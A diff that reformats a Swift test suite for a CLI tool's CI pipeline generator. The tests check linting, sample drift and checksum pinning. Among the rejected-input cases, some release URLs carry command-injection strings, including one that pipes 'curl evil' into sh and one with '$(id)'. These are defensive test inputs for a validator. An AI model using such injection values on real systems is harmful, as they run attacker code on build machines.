@@ -14,7 +14,8 @@ import Testing
     @Test(arguments: kinds) func initWritesAPipelineThatPassesTheLinters(kind: String, path: String) async throws {
         let folder = try Shell.temporaryFolder("init-ci").appendingPathComponent("magazine")
         let result = await InProcess.newsstand([
-            "init", folder.path, "--ci", kind, "--release-url", "https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz",
+            "init", folder.path, "--ci", kind, "--release-url",
+            "https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz",
             "--release-sha256", Self.someDigest,
         ])
         #expect(result.status == 0, "\(result.stderr)")
@@ -29,7 +30,8 @@ import Testing
         if kind == "github" {
             // actionlint also runs shellcheck on every run: script (shellcheck is installed).
             #expect(try await Shell.runOffPool("shellcheck", ["--version"]).status == 0)
-            let actionlint = try await Shell.runOffPool("actionlint", ["-shellcheck", try Shell.locate("shellcheck"), file.path], in: folder)
+            let actionlint = try await Shell.runOffPool(
+                "actionlint", ["-shellcheck", try Shell.locate("shellcheck"), file.path], in: folder)
             #expect(actionlint.status == 0, "\(actionlint.stdout)\(actionlint.stderr)")
         }
         let validated = await InProcess.newsstand(["validate", folder.path, "--strict"])
@@ -37,14 +39,38 @@ import Testing
     }
 
     @Test(arguments: [
-        (["--ci", "github"], "newsstand init: error: --ci needs --release-url and --release-sha256: the pipeline installs newsstand from that release tarball, pinned by its SHA-256"),
-        (["--ci", "github", "--release-url", "https://x.example/n.tar.gz\"; curl evil | sh; \"", "--release-sha256", someDigest], "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"),
-        (["--ci", "github", "--release-url", "https://x.example/$(id).tar.gz", "--release-sha256", someDigest], "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"),
-        (["--ci", "gitlab", "--release-url", "https://bob:s3cret@x.example/n.tar.gz", "--release-sha256", someDigest], "newsstand init: error: --release-url must not hold credentials: a pipeline file is read by everyone with the repository"),
-        (["--ci", "gitlab", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", "abc"], "newsstand init: error: --release-sha256 needs a SHA-256 digest (64 hexadecimal digits), got 'abc'"),
+        (
+            ["--ci", "github"],
+            "newsstand init: error: --ci needs --release-url and --release-sha256: the pipeline installs newsstand from that release tarball, pinned by its SHA-256"
+        ),
+        (
+            [
+                "--ci", "github", "--release-url", "https://x.example/n.tar.gz\"; curl evil | sh; \"", "--release-sha256",
+                someDigest,
+            ],
+            "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"
+        ),
+        (
+            ["--ci", "github", "--release-url", "https://x.example/$(id).tar.gz", "--release-sha256", someDigest],
+            "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"
+        ),
+        (
+            ["--ci", "gitlab", "--release-url", "https://bob:s3cret@x.example/n.tar.gz", "--release-sha256", someDigest],
+            "newsstand init: error: --release-url must not hold credentials: a pipeline file is read by everyone with the repository"
+        ),
+        (
+            ["--ci", "gitlab", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", "abc"],
+            "newsstand init: error: --release-sha256 needs a SHA-256 digest (64 hexadecimal digits), got 'abc'"
+        ),
         (["--ci", "circle"], "newsstand init: error: unknown ci 'circle'; expected github or gitlab"),
-        (["--ci", "gitlab", "--fan-out", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", someDigest], "newsstand init: error: --fan-out is for --ci github (GitLab has no matrix built from a job's output)"),
-        (["--release-url", "https://x.example/n.tar.gz"], "newsstand init: error: --release-url, --release-sha256 and --fan-out go with --ci"),
+        (
+            ["--ci", "gitlab", "--fan-out", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", someDigest],
+            "newsstand init: error: --fan-out is for --ci github (GitLab has no matrix built from a job's output)"
+        ),
+        (
+            ["--release-url", "https://x.example/n.tar.gz"],
+            "newsstand init: error: --release-url, --release-sha256 and --fan-out go with --ci"
+        ),
     ])
     func aBadPipelineRequestWritesNothing(options: [String], message: String) async throws {
         let folder = try Shell.temporaryFolder("init-ci-bad").appendingPathComponent("magazine")
@@ -59,16 +85,21 @@ import Testing
     @Test(arguments: kinds) func theSamplesPipelinesAreWhatInitWrites(kind: String, path: String) async throws {
         let sample = Shell.repositoryRoot.appendingPathComponent("Samples/aurora").appendingPathComponent(path)
         let text = try String(contentsOf: sample, encoding: .utf8)
-        let values = try await offPool { try Shell.python(
-            "import sys, yaml; d = yaml.safe_load(open(sys.argv[1])); v = d.get('env') or d['variables']; print(v['NEWSSTAND_URL']); print(v['NEWSSTAND_SHA256'])",
-            [sample.path]) }
+        let values = try await offPool {
+            try Shell.python(
+                "import sys, yaml; d = yaml.safe_load(open(sys.argv[1])); v = d.get('env') or d['variables']; print(v['NEWSSTAND_URL']); print(v['NEWSSTAND_SHA256'])",
+                [sample.path])
+        }
         let lines = values.stdout.split(separator: "\n").map(String.init)
         try #require(lines.count == 2, "\(values.stderr)")
         let folder = try Shell.temporaryFolder("sample-ci").appendingPathComponent("m")
-        let result = await InProcess.newsstand(["init", folder.path, "--ci", kind, "--release-url", lines[0], "--release-sha256", lines[1]])
+        let result = await InProcess.newsstand([
+            "init", folder.path, "--ci", kind, "--release-url", lines[0], "--release-sha256", lines[1],
+        ])
         #expect(result.status == 0, "\(result.stderr)")
-        #expect(try String(contentsOf: folder.appendingPathComponent(path), encoding: .utf8) == text,
-                "Samples/aurora/\(path) drifted from templates/ci/\(kind).yml: regenerate it (see Samples/README.md)")
+        #expect(
+            try String(contentsOf: folder.appendingPathComponent(path), encoding: .utf8) == text,
+            "Samples/aurora/\(path) drifted from templates/ci/\(kind).yml: regenerate it (see Samples/README.md)")
         if kind == "github" {
             let readme = try String(contentsOf: Shell.repositoryRoot.appendingPathComponent("docs/ci.md"), encoding: .utf8)
             #expect(readme.contains("```yaml\n" + text + "```\n"), "docs/ci.md does not show the sample's workflow as it is")
@@ -98,10 +129,14 @@ import Testing
         // Served from /aurora/, published through /dav/aurora/.
         let settings = repository.appendingPathComponent("magazine.plist")
         try String(contentsOf: settings, encoding: .utf8)
-            .replacingOccurrences(of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString)
+            .replacingOccurrences(
+                of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString
+            )
             .write(to: settings, atomically: true, encoding: .utf8)
-        try FileManager.default.createDirectory(at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
-        try FileManager.default.copyItem(at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
+        try FileManager.default.createDirectory(
+            at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
+        try FileManager.default.copyItem(
+            at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
         let digest = try await Shell.runOffPool("sha256sum", [tarball.path]).stdout.prefix(64)
         let cache = try Shell.temporaryFolder("ci-cache")
         func overrides(sha: String = String(digest), destination: String, runID: String) throws -> [String: Any] {
@@ -120,7 +155,8 @@ import Testing
 
         // A tarball that is not the pinned one is refused before it is unpacked.
         let forgedRun = try overrides(sha: Self.someDigest, destination: destination, runID: "1")
-        let forged = try await runPipeline(kind, path: path, event: "push", repository: repository, cache: cache, overrides: forgedRun)
+        let forged = try await runPipeline(
+            kind, path: path, event: "push", repository: repository, cache: cache, overrides: forgedRun)
         #expect(forged.status == 1, "\(forged.stdout)\(forged.stderr)")
         #expect(forged.stderr.contains("sha256sum: WARNING: 1 computed checksum did NOT match"), "\(forged.stderr)")
         let unpacked = ((forgedRun["RUNNER_TEMP"] as? String) ?? "") + "/newsstand/bin/newsstand"
@@ -134,7 +170,9 @@ import Testing
         #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
         #expect(check.stdout.contains("job: check") && !check.stdout.contains("job: publish"))
         #expect(check.stdout.contains("built 3 issue(s)"), "\(check.stdout)")
-        for package in ["libarchive13", "libcurl4", "libsqlite3-0", "libxml2", "libxxhash0", "libvips42", "libjpeg62-turbo"] { #expect(check.stdout.contains("package: \(package)\n")) }
+        for package in ["libarchive13", "libcurl4", "libsqlite3-0", "libxml2", "libxxhash0", "libvips42", "libjpeg62-turbo"] {
+            #expect(check.stdout.contains("package: \(package)\n"))
+        }
 
         // Without the destination secret, publish stops and says which secret to set.
         let unset = try await runPipeline(
@@ -149,7 +187,9 @@ import Testing
             kind, path: path, event: "push", repository: repository, cache: cache,
             overrides: try overrides(destination: destination, runID: "4"))
         #expect(published.status == 0, "\(published.stdout)\(published.stderr)")
-        #expect(published.stdout.contains("verified: the catalog parses and every bundle and cover URL answers 200"), "\(published.stdout)")
+        #expect(
+            published.stdout.contains("verified: the catalog parses and every bundle and cover URL answers 200"),
+            "\(published.stdout)")
         #expect(FileManager.default.fileExists(atPath: nginx.root.appendingPathComponent("aurora/issues.plist").path))
 
         // The next run restores the build records from the cache: nothing is rebuilt.
@@ -169,10 +209,14 @@ import Testing
         let repository = try nginx.sampleMagazine(in: work)
         let settings = repository.appendingPathComponent("magazine.plist")
         try String(contentsOf: settings, encoding: .utf8)
-            .replacingOccurrences(of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString)
+            .replacingOccurrences(
+                of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString
+            )
             .write(to: settings, atomically: true, encoding: .utf8)
-        try FileManager.default.createDirectory(at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
-        try FileManager.default.copyItem(at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
+        try FileManager.default.createDirectory(
+            at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
+        try FileManager.default.copyItem(
+            at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
         let digest = String(try await Shell.runOffPool("sha256sum", [tarball.path]).stdout.prefix(64))
         let releaseURL = nginx.baseURL.appendingPathComponent("releases/\(tarball.lastPathComponent)").absoluteString
         // The pipeline init writes with --fan-out, in the sample's repository.
@@ -183,7 +227,8 @@ import Testing
         #expect(written.status == 0, "\(written.stderr)")
         let workflow = ".github/workflows/newsstand.yml"
         try FileManager.default.removeItem(at: repository.appendingPathComponent(workflow))
-        try FileManager.default.copyItem(at: scratch.appendingPathComponent(workflow), to: repository.appendingPathComponent(workflow))
+        try FileManager.default.copyItem(
+            at: scratch.appendingPathComponent(workflow), to: repository.appendingPathComponent(workflow))
         let lint = try await Shell.runOffPool("actionlint", [repository.appendingPathComponent(workflow).path], in: repository)
         #expect(lint.status == 0, "\(lint.stdout)")
         let cache = try Shell.temporaryFolder("fan-out-cache")
@@ -216,6 +261,8 @@ import Testing
         // The next run finds each issue's records in the cache: nothing is rebuilt.
         let second = try await run("2")
         #expect(second.status == 0, "\(second.stdout)\(second.stderr)")
-        #expect(second.stdout.components(separatedBy: "built 0 issue(s): 0 bundles, 0 bytes; 1 up to date").count == 4, "\(second.stdout)")
+        #expect(
+            second.stdout.components(separatedBy: "built 0 issue(s): 0 bundles, 0 bytes; 1 up to date").count == 4,
+            "\(second.stdout)")
     }
 }
